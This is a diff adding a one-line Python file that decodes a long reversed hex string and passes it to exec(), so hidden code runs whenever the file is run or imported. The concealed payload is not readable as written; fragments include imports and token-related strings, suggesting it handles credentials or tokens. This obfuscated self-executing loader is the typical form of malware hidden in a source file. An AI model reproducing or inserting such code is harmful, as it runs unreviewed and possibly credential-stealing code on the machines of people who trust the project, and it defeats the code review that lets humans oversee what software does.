@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a092922256d616372202c22297c696d616662282b636f6c6f59756b6e25636e6164737e694568636163476f6c61647163402c2922256d616372202c22297c696d616662282b636f6c6f59756b6e25636e6164737e694568636163476f6c616471634823794472756373716e266c656370202020202020202a0929237b636f6c6f59756b6f5e25636e6164737e694568636163476f6c61647163482e656c602c29237b636f6c682e656c682c616571754373756c4472756373716e266c656370202020202020202a0d79203030313825676e6162702e69602960227f6660292929292968227473702c22247e657f6363616228202c22297c696d616662282b636f6c6f59756b6e25636e6164737e694568636163476f6c616471634824696b702d30237b636f6c60202020202020202a0a39266c6563782465646e657f626f5562716f537b636f6c6f59756b6f5473756470266564602020202a0a092925637c6166402c222f626d6f63402162747852202c22295c494d4146422825646f636f547e61696271667f5475676e25636e6164737e694568636163476f6c6164716348256e6f6e43794472756373716e266c656370202020202020202a0d7d7d72246c6f62202a322f626d6f636021627478722b702a3223747e616962716672202c25637c6166402a3225637962707275647e656f537962202c22254e4f4e42202a32256079747f5e6f6964716277696d622b702a32295c494d4146422b702d302875646e696e25636e6164737e694568636163476f6c6164716340202020202020202a0a39266c6563782465627f6e67696f5562716f53756962747e656f5875646e696f59736167656c6f5473756470266564602020202a0a092225646f636d25637962707275647e6562202c29222f626d6f63402162747852202c22295c494d4146422825646f636f547e61696271667f5475676e25636e6164737e694568636163476f6c61647163482c616571754472756373716e266c656370202020202020202a0473716c6024656b627f677024716864702e6f6964716e69626d6f63602568647023777f6c6c6f666025637962707275647e656f5379602e677f6e6b6e65502320202020202020202a092225646f636d25637962707275647e6562202c2925657274502c222f626d6f63402162747852202c22295c494d4146422825646f636f547e61696271667f5475676e25636e6164737e694568636163476f6c61647163482c616571754472756373716e266c656370202020202020202a092225646f636d22756d65737e6f6362202c2925637c6166402c222f626d6f63602162747872202c22295c494d4146422825646f636f547e61696271667f5475676e25636e6164737e694568636163476f6c61647163482c616571754472756373716e266c656370202020202020202a09292225646f636d25637962707275647e656228297c696d61666f5e266c6563702c25657274502c22254e4f4e42202c22295c494d41464228297c696d61666f5275626d656d65627e25636e6164737e694568636163476f6c6164716340202020202020202a0a092925657274502c222f626d6f63402162747852202c22295c494d4146422825646f636f547e61696271667f5475676e25636e6164737e694568636163476f6c6164716348256e6f6e43794472756373716e266c656370202020202020202a09292225646f636d22756d65737e6f636228297c696d61666f5e266c6563702c25637c6166402c22254e4f4e42202c22295c494d41464228297c696d61666f5275626d656d65627e25636e6164737e694568636163476f6c6164716340202020202020202a0a39266c65637825637962707275647e656f53796f5275607f5470756b6f5562716f5375646f636f547e61696271667f5473756470266564602020202a0a0d7d5d75646f63602a3225646f636f547e61696271667f5567616b63616072202c222f626d6f63402162747852202a32256d616e622b7b502a3223747e61696271667f5567616b636160722b702e627574756270202020202020202a0a34736964602e3d2029227473702a35646f6368297c696d61666f50266564602020202a046f6864756d63696471647370402020202a0a0875646e696f5e266c6563702d302875646e696e25636e6164737e694568636163476f6c6164716340202020202020202a0a39266c6563782e677f644271656470266564602020202a0a0d7b702d302875646e696e25636e6164737e694568636163476f6c6164716340202020202020202a0875646e696e25636e6164737e694568636163476f6c61647163402d302875646e696f5e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e6578247375645875646e694568636163476f6c61647163402373716c636a0a0a0922302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a09256572745d347e656c6963702c222e4f4944505f42202c227568647f602c2229756b62282567616b6361607f5475676e2c6563776e656e266c656370202020202020202a0a0921302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a09256572745d347e656c6963702c222e4f4944505f42202c2275647661602c2229756b62282567616b6361607f5475676e2c6563776e656e266c656370202020202020202a09256572745d347e656c6963702c222e4f4944505f42202c25627f666562602c2229756b62282567616b6361607f5475676e2c6563776e656e266c656370202020202020202a0a0d722262202a322e656b6f647f53737563636162202c292d70303032302a3220787562202c22226d2275626962736372657372202a32226573722b7824777a6f502a322e656b6f647f5469622b702d30227568647f60202020202020202a0d72223162202a322e656b6f647f53737563636162202c292d70303032302a3220787562202c22216d2275626962736372657372202a32226573722b7824777a6f502a322e656b6f647f5469622b702d30227564766160202020202020202a0d722162202a322e656b6f647f53737563636162202c292d70303031302a3220787562202c22216d2275626962736372657372202a32226573722b7824777a6f502a322e656b6f647f5469622b702d3025627f66656260202020202020202a0a39266c65637825686361636f5568647f576e69647479686f537075656b6f5e656b6f647f5465686375627665627f5473756470266564602020202a0a0a0922226d247e657f6363616d2e656b6f647d24696d227f666d297c696d616662202c2d52256d616e622b5d52297c696d61666f5567616b636160722b597c696d6166682c616571754472756373716e266c656370202020202020202a0922302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a09256572745d347e656c6963702c22295c494d414642202c224f535e454b4f44502c2229756b622822367f597c696d61666f5475676e2c6563776e656e266c6563702d30297c696d616660202020202020202a0a0921302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a09256572745d347e656c6963702c22295c494d414642202c214f535e454b4f44502c2229756b622822367f597c696d61666f5475676e2c6563776e656e266c656370202020202020202a09256572745d347e656c6963702c22295c494d414642202c214f535e454b4f44502c2229756b622822367f597c696d61666f5475676e2c6563776e656e266c656370202020202020202a0a39266c6563782863647967737f547e657f6363616f52756476616f53756373796d6f52367f597c696d61666f5475676f5473756470266564602020202a0a0922226d247e657f6363616d2e656b6f647d24696d227f666d297c696d616662202c2d52256d616e622b5d52297c696d61666f5567616b636160722b597c696d6166682c616571754472756373716e266c656370202020202020202a0922302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a0922295c494d414642202c224f535e454b4f44502c2229756b6228297c696d61666f5475676e2c6563776e656e266c6563702d30297c696d616660202020202020202a0a0921302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a0922295c494d414642202c214f535e454b4f44502c2229756b6228297c696d61666f5475676e2c6563776e656e266c656370202020202020202a0922295c494d414642202c214f535e454b4f44502c2229756b6228297c696d61666f5475676e2c6563776e656e266c656370202020202020202a0a39266c6563782863647967737f547e657f6363616f52756476616f53756373796d6f597c696d61666f5475676f5473756470266564602020202a0a0922302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a092863756276602c29256572745d347e656c6963702c222e4f4944505f42202c214f535e454b4f44502c2229756b62282567616b6361607f5475676e2c6563776e656e266c6563782c616571754472756373716e266c656370202020202020202a056e6f602465686361636025686470237563616c60756270247c6573756270286375627660256864502320202020202020202a0a0922302c2d522563696270722b5d522e6f6964707f6f5567616b636160722b5863756276682c616571754472756373716e266c656370202020202020202a0922302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a0925637c61664d35686361636f556375702c256572745d347e656c6963702c222e4f4944505f42202c214f535e454b4f44502c2229756b62282567616b6361607f5475676e2c6563776e656e266c6563702d30286375627660202020202020202a09256572745d347e656c6963702c222e4f4944505f42202c214f535e454b4f44502c2229756b62282567616b6361607f5475676e2c6563776e656e266c656370202020202020202a0a39266c6563782375686364756665627f55686361636f54757f686479677f5567616b6361607f5475676f5473756470266564602020202a0a0922226d247e657f6363616d2e656b6f647d24696d227f666d2e6f6964716d6279666e6f6362202c2d522e6f6964716d6279666e6f636f5e656b6f64722b5465686364796773782c616571754472756373716e266c656370202020202020202a092d522e656b6f647f5469622b524f535e454b4f44502c2d513b5d513d2b537c6c61636e266c6563782c616571754472756373716e266c656370202020202020202a0922302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a09256572745d347e656c6963702c222e4f4944505f42202c224f535e454b4f44502c2229756b62282567616b6361607f5475676e2c6563776e656e266c6563702d30246568636479677370202020202020202a0a092473727966602c246568636163682c616571754472756373716e266c656370202020202020202a0921302c29237c6c61636e266c6563782e656c682c616571754472756373716e266c656370202020202020202a09256572745d347e656c6963702c222e4f4944505f42202c214f535e454b4f44502c2229756b62282567616b6361607f5475676e2c6563776e656e266c6563702d3024656863616360202020202020202a09256572745d347e656c6963702c222e4f4944505f42202c214f535e454b4f44502c2229756b62282567616b6361607f5475676e2c6563776e656e266c6563702d30247372796660202020202020202a0a39266c6563782863647967737f547e657f6363616f52756476616f53756373796d6f5567616b6361607f5475676f5473756470266564602020202a0a0d7d70202020202020202a0c2d5b502a3223747e61696271667f5567616b636160722020202020202020202020202a0c2d722d7e656b6f647f54696b7d227f666d297c696d61666226602a32256d616e622b702a32297c696d61666f5567616b636160722020202020202020202020202a0b702a322164716462202c222353554343455352202a32237574716473722b702e627574756270202020202020202a0d7d7020202020202020202020202a0c222d7e656b6f647f54696b7d227f666d2e6f6964716d6279666e6f636226602a322e6f6964716d6279666e6f636f5e656b6f6472202020202020202020202020202020202a0c2d79237c6c61636e266c6563782e656c602a322563696270722b702a322e6f6964707f6f5567616b63616072202020202020202020202020202020202a0b702a322164716462202c222353554343455352202a32237574716473722b702e62757475627020202020202020202020202a0a322c69616475646f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3d302864716070266960202020202020202a09292e656b6f647f5469602c286471607828246e656070716e237c6c61636e266c656370202020202020202a0a392224535f40522d346f6864756d602c2e656b6f647f5469602c247369646f54616f6c697160702c28647160702c29756b6f596071602c266c656378247375657175627f5960716f546e65637f556b61666f50266564602020202a0a09282271656c636e25636e6164737e694568636163476f6c6164716340202020202020202a0c616e696769627f6f5e266c6563702d30247375657175627f5960716f546e65637e2c6563776e656e266c656370202020202020202a0a39266c6563782e677f644271656470266564602020202a0a047375657175627f5960716f546e65637f556b61666f5e266c6563702d30247375657175627f5960716f546e65637e2c6563776e656e266c656370202020202020202a047375657175627f5960716f546e65637e2c6563776e656e266c6563702d302c616e696769627f6f5e266c656370202020202020202a0d5b502d30237c6c61636e266c656370202020202020202a09282271656c636e25636e6164737e694568636163476f6c6164716340202020202020202a09222c6563776e656e247e65696c636e2070716228256c65746f6d6f54727f607d696e22696c64727f607d69602d302c6563776e656e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e657824737564547e657f6363614568636163476f6c61647163402373716c636a0a0a0225627574716e6769637e2d79237d69616c636825646f636e656b7e2d792d77256e6f6e67202a37276c61672b7825646f636e656b7226602e6275747562702020202a09222d32282079627473727e292825646f6365646e29292825646f636e656e29247271607823707d65746e2e6f637a6825646f636e656436326f556661637c62757e243635637162602e627574756270202020202020202a0a327473702e3d202924736964602a347271607825646f636e6560266564602020202a0a327473702e3d202924736964602a337d69616c636824777a6f502665646a0a0a0d722262202a322e656b6f647f53737563636162202c22226d247e657f6363616d2e656b6f647d246962202a322e656b6f647f5469622b702d30224f535e454b4f445a0d722162202a322e656b6f647f53737563636162202c22216d247e657f6363616d2e656b6f647d246962202a322e656b6f647f5469622b702d30214f535e454b4f445a0a05636e6164737e694568636163476f6c616471634024727f607d696025686361636f576f6c616471636e256369667275637e207071602d6f62766a0a0473756474796e657024727f607d696a0e6f637a6024727f607d696a02696c64727f607d696024727f607d696a0436356371626024727f607d696" ));